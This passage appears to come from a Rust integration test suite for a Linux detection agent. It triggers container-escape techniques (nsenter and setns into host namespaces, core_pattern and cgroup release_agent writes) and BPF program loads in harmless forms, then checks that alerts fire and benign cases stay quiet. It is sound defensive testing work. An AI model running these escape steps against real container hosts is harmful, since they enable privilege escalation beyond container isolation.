    // A cgroup v1 hierarchy of the container's own (the release_agent
    // escape's first step), mounted where no watched path names it.
    let t = target("cgv1");
    let name = format!("kestrel-ce-{}", std::process::id());
    let pid = run_ok(ctr.command(&[
        "mount",
        "-t",
        "cgroup",
        "-o",
        &format!("none,name={name}"),
        "kestrel-cgv1",
        &t,
    ]));
    let m = mount_of(&pid, "kestrel-cgv1");
    assert_eq!(field(&m, "fstype"), "cgroup");
    escape(&m);

    // Benign: a tmpfs in the container (unshare's own MS_PRIVATE remount
    // of / in every variant above is another); the loop device mounted on
    // the host, outside any container.
    let t = target("tmpfs");
    let tmpfs_pid = run_ok(ctr.command(&["mount", "-t", "tmpfs", "kestrel-tmpfs", &t]));
    let tm = mount_of(&tmpfs_pid, "kestrel-tmpfs");
    assert_eq!(field(&tm, "fstype"), "tmpfs");
    let t = target("host");
    let mut host = Command::new("unshare");
    host.args([
        "-m",
        "--propagation",
        "private",
        "mount",
        "-o",
        "ro",
        dev,
        &t,
    ]);
    let host_pid = run_ok(host);
    let hm = event_by(&agent, "165", &host_pid, |e| e["dev"] == dev);
    assert_eq!(field(&hm, "container_id"), "");
    assert_no_alert_from(&agent, rule, |e| {
        e["data_type"] == "165"
            && (e["tgid"] == tmpfs_pid.as_str()
                || e["tgid"] == host_pid.as_str()
                || e["dev"] == "none")
    });
    agent.stop();
    drop(disk);
    let _ = std::fs::remove_dir_all(d);
}

#[test]
fn container_escape_setns_from_a_container() {
    let rule = "kestrel.privilege_escalation.container_escape";
    let d = scratch("ce-setns");
    let ctr = Container::new();
    let agent = agent(&[]);
    // The host's namespaces: this test's own (pid 1's may be out of
    // reach, as on this VM).
    let host = std::process::id().to_string();
    let host_net = std::fs::metadata("/proc/self/ns/net")
        .unwrap()
        .ino()
        .to_string();
    let joined = |pid: &str| {
        let j = event_by(&agent, "308", pid, |e| e["res"] == "0");
        assert_eq!(field(&j, "container_id"), ctr.id, "{j}");
        j
    };
    let escape = |j: &Value| {
        let a = alert_from(&agent, rule, j);
        assert_eq!(field(&a, "mitre_technique"), "T1611");
        assert_eq!(field(&a, "container_id"), ctr.id, "{a}");
    };
    // nsenter into the host's mount, uts, ipc and network namespaces.
    let pid = run_ok(ctr.command(&["nsenter", "-t", &host, "-m", "-u", "-i", "-n", "true"]));
    let j = joined(&pid);
    assert_eq!(field(&j, "fd_kind"), "nsfs");
    escape(&j);
    let reached = event_by(&agent, "308", &pid, |e| e["ns_types"] == "net");
    assert_eq!(field(&reached, "target_net_ns"), host_net);
    // python: setns(2) on /proc/HOST/ns/net, and on a pidfd for net and
    // uts at once.
    let cmd = python(&format!(
        "fd = os.open('/proc/{host}/ns/net', os.O_RDONLY)\n\
         assert libc.setns(fd, 0x40000000) == 0, ctypes.get_errno()"
    ));
    let argv: Vec<&str> = cmd.iter().map(String::as_str).collect();
    let pid = run_ok(ctr.command(&argv));
    let j = joined(&pid);
    assert_eq!(field(&j, "target_net_ns"), host_net);
    escape(&j);
    let cmd = python(&format!(
        "fd = os.pidfd_open({host})\n\
         assert libc.setns(fd, 0x40000000 | 0x04000000) == 0, ctypes.get_errno()"
    ));
    let argv: Vec<&str> = cmd.iter().map(String::as_str).collect();
    let pid = run_ok(ctr.command(&argv));
    let j = joined(&pid);
    assert_eq!(field(&j, "fd_kind"), "pidfd");
    assert_eq!(field(&j, "ns_types"), "net,uts");
    escape(&j);
    // perl's syscall(), nstype 0 (any type).
    let pid = run_ok(ctr.command(&[
        "perl",
        "-e",
        &format!(
            "open(my $f, '<', '/proc/{host}/ns/net') or die; syscall(308, fileno($f), 0) == 0 or die \"setns: $!\";"
        ),
    ]));
    escape(&joined(&pid));

    // Benign: the same nsenter as a container runtime (a copy named runc)
    // in the container, and nsenter on the host.
    let runc = d.join("runc");
    copy_exec("/usr/bin/nsenter", &runc);
    let runc_s = runc.display().to_string();
    let runc_pid = run_ok(ctr.command(&[&runc_s, "-t", &host, "-m", "-n", "true"]));
    let rj = joined(&runc_pid);
    assert_eq!(field(&rj, "exe"), runc_s);
    let mut on_host = Command::new("nsenter");
    on_host.args(["-t", &host, "-m", "-n", "true"]);
    let host_pid = run_ok(on_host);
    let hj = event_by(&agent, "308", &host_pid, |e| e["res"] == "0");
    assert_eq!(field(&hj, "container_id"), "");
    assert_no_alert_from(&agent, rule, |e| {
        e["data_type"] == "308"
            && (e["tgid"] == runc_pid.as_str() || e["tgid"] == host_pid.as_str())
    });
    agent.stop();
    let _ = std::fs::remove_dir_all(d);
}

#[test]
fn container_escape_core_pattern_and_release_agent_writes() {
    use crate::support::{CorePattern, CORE_PATTERN};
    let rule = "kestrel.privilege_escalation.container_escape";
    // Put back at the end whatever a variant did (each writes the value
    // it already has); dropped after the agent.
    let old = std::fs::read_to_string(CORE_PATTERN).unwrap();
    let old = old.trim_end_matches('\n').to_string();
    let _restore = CorePattern::set(&old);
    // Both are default watched paths: the agent as it starts by default.
    let agent = agent(&[]);
    let written =
        |pid: &str, file: &str| event_by(&agent, "608", pid, |e| e["file"].as_str() == Some(file));
    let escape = |ev: &Value| {
        let a = alert_from(&agent, rule, ev);
        assert_eq!(field(&a, "mitre_technique"), "T1611");
    };
    // The shell's redirection, python's open(, 'w'), sysctl -w.
    let mut c = Command::new("sh");
    c.arg("-c").arg(format!(
        "p=$(cat {CORE_PATTERN}); printf '%s\\n' \"$p\" > {CORE_PATTERN}"
    ));
    let ev = written(&run_ok(c), CORE_PATTERN);
    assert_eq!(field(&ev, "truncates"), "true");
    escape(&ev);
    let mut c = Command::new("/usr/bin/python3");
    c.args([
        "-c",
        &format!("p = open('{CORE_PATTERN}').read(); open('{CORE_PATTERN}', 'w').write(p)"),
    ]);
    escape(&written(&run_ok(c), CORE_PATTERN));
    let mut c = Command::new("sysctl");
    c.args(["-q", "-w", &format!("kernel.core_pattern={old}")]);
    escape(&written(&run_ok(c), CORE_PATTERN));
    assert_eq!(
        std::fs::read_to_string(CORE_PATTERN).unwrap().trim_end(),
        old
    );
    // A cgroup v1 hierarchy of its own, mounted as the release_agent
    // escape does (in a private mount namespace, on a tmpfs over
    // /sys/fs/cgroup there: the host's hierarchies are not touched), and
    // its release_agent written by a shell and by python.
    let name: String = marker("ra")
        .chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .collect();
    let name = format!("k{}", &name[name.len() - 12..]);
    let setup = format!(
        "mount -t tmpfs none /sys/fs/cgroup && mkdir /sys/fs/cgroup/{name} && \
         mount -t cgroup -o none,name={name} cgroup /sys/fs/cgroup/{name}"
    );
    let agent_file = format!("/sys/fs/cgroup/{name}/release_agent");
    let mut c = Command::new("unshare");
    c.args(["-m", "--propagation", "private", "sh", "-c"])
        .arg(format!("{setup} && echo /bin/true > {agent_file}"));
    escape(&written(&run_ok(c), &agent_file));
    let mut c = Command::new("unshare");
    c.args(["-m", "--propagation", "private", "/usr/bin/python3", "-c"])
        .arg(format!(
            "import subprocess; subprocess.run(['sh', '-c', '{setup}'], check=True); \
             open('{agent_file}', 'w').write('/bin/true')"
        ));
    escape(&written(&run_ok(c), &agent_file));

    // Benign: core_pattern read, by cat and by sysctl.
    let mut c = Command::new("cat");
    c.arg(CORE_PATTERN);
    let cat_pid = run_ok(c);
    let mut c = Command::new("sysctl");
    c.arg("kernel.core_pattern");
    let sysctl_pid = run_ok(c);
    for pid in [&cat_pid, &sysctl_pid] {
        event_by(&agent, "609", pid, |e| e["file"] == CORE_PATTERN);
    }
    assert_no_alert_from(&agent, rule, |e| {
        e["data_type"] == "609"
            && (e["tgid"] == cat_pid.as_str() || e["tgid"] == sysctl_pid.as_str())
    });
    agent.stop();
}

/// BPF_PROG_LOAD of a two-instruction program (r0 = 1; exit) of type
/// argv[1], named argv[2]: the C loader compiled by the BPF test.
const BPF_LOADER_C: &str = r#"#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int argc, char **argv) {
    struct bpf_insn insns[2] = {
        {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 1},
        {.code = BPF_JMP | BPF_EXIT},
    };
    union bpf_attr a;
    memset(&a, 0, sizeof a);
    a.prog_type = atoi(argv[1]);
    a.insns = (unsigned long)insns;
    a.insn_cnt = 2;
    a.license = (unsigned long)"GPL";
    strncpy(a.prog_name, argv[2], sizeof a.prog_name - 1);
    int fd = syscall(SYS_bpf, BPF_PROG_LOAD, &a, sizeof a);
    if (fd < 0) { perror("bpf"); return 1; }
    return 0;
}
"#;

/// A socket filter for bpftool's `prog load` (its function names the
/// program).
const BPF_OBJ_C: &str = r#"__attribute__((section("socket"), used)) int kce_obj(void *ctx) { return 0; }
char _license[] __attribute__((section("license"), used)) = "GPL";
"#;

#[test]
fn bpf_programs_loaded_by_unknown_programs() {
    let rule = "kestrel.defense_evasion.bpf_load";
    let d = scratch("bpfload");
    let bpftool = ["/usr/sbin/bpftool", "/usr/bin/bpftool"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .expect("bpftool is not installed: scripts/install-deps --test installs it");
    let loader = d.join("kloader");
    std::fs::write(d.join("loader.c"), BPF_LOADER_C).unwrap();
    assert!(Command::new("gcc")
        .arg("-o")
        .arg(&loader)
        .arg(d.join("loader.c"))
        .status()
        .unwrap()
        .success());
    let obj = d.join("prog.bpf.o");
    std::fs::write(d.join("prog.bpf.c"), BPF_OBJ_C).unwrap();
    assert!(Command::new("clang")
        .args(["-target", "bpf", "-O2", "-c"])
        .arg(d.join("prog.bpf.c"))
        .arg("-o")
        .arg(&obj)
        .status()
        .unwrap()
        .success());
    let tag: String = marker("b")
        .chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .collect();
    let pin = |n: &str| format!("/sys/fs/bpf/kestrel_{n}_{}", &tag[tag.len() - 12..]);
    let agent = agent(&[]);
    let loaded = |pid: &str, name: &str, ptype: &str| {
        let ev = event_by(&agent, "321", pid, |e| {
            e["cmd"] == "BPF_PROG_LOAD" && e["prog_name"] == name
        });
        assert_eq!(field(&ev, "cmd_id"), "5");
        assert_eq!(field(&ev, "prog_type"), ptype, "{ev}");
        assert_eq!(field(&ev, "prog_from_kernel"), "true", "{ev}");
        assert!(field(&ev, "res").parse::<i64>().unwrap() >= 0, "{ev}");
        assert!(!field(&ev, "prog_id").is_empty(), "{ev}");
        ev
    };
    let alert_of = |ev: &Value| {
        let a = alert_from(&agent, rule, ev);
        assert_eq!(field(&a, "mitre_technique"), "T1562.001");
        assert_eq!(field(&a, "severity"), "medium");
        assert_eq!(a["exe"], ev["exe"]);
    };
    // python's ctypes: a socket filter.
    let mut c = Command::new("/usr/bin/python3");
    c.args([
        "-c",
        &format!(
            "{}\n\
             insns = ctypes.create_string_buffer(struct.pack('<BBhiBBhi', 0xb7, 0, 0, 0, 0x95, 0, 0, 0), 16)\n\
             lic = ctypes.create_string_buffer(b'GPL')\n\
             a = struct.pack('<IIQQIIQII16s', 1, 2, ctypes.addressof(insns), ctypes.addressof(lic), 0, 0, 0, 0, 0, b'kce_py')\n\
             buf = ctypes.create_string_buffer(a.ljust(128, b'\\0'), 128)\n\
             fd = sc(321, 5, buf, 128)\n\
             assert fd >= 0, fd",
            crate::support::PY_SYSCALL
        ),
    ]);
    let pid = run_ok(c);
    alert_of(&loaded(&pid, "kce_py", "socket_filter"));
    // C, compiled here: a cgroup_skb program and an xdp one.
    for (ptype, id, name) in [("cgroup_skb", "8", "kce_cgskb"), ("xdp", "6", "kce_xdp")] {
        let mut c = Command::new(&loader);
        c.args([id, name]);
        let ev = loaded(&run_ok(c), name, ptype);
        assert_eq!(field(&ev, "exe"), loader.to_str().unwrap());
        alert_of(&ev);
    }
    // bpftool under another name: an object file loaded and pinned.
    let renamed = d.join("kbpf-helper");
    copy_exec(bpftool, &renamed);
    let mut c = Command::new(&renamed);
    c.args(["prog", "load", obj.to_str().unwrap(), &pin("renamed")]);
    let pid = run_ok(c);
    alert_of(&loaded(&pid, "kce_obj", "socket_filter"));
    let _ = std::fs::remove_file(pin("renamed"));

    // Benign: bpftool itself, allowlisted, loading the same object.
    let mut c = Command::new(bpftool);
    c.args(["prog", "load", obj.to_str().unwrap(), &pin("bpftool")]);
    let tool_pid = run_ok(c);
    let ev = loaded(&tool_pid, "kce_obj", "socket_filter");
    assert_eq!(field(&ev, "exe"), bpftool);
    let _ = std::fs::remove_file(pin("bpftool"));
    assert_no_alert_from(&agent, rule, |e| {
        e["data_type"] == "321" && e["tgid"] == tool_pid.as_str()
    });
    agent.stop();
    let _ = std::fs::remove_dir_all(d);
}
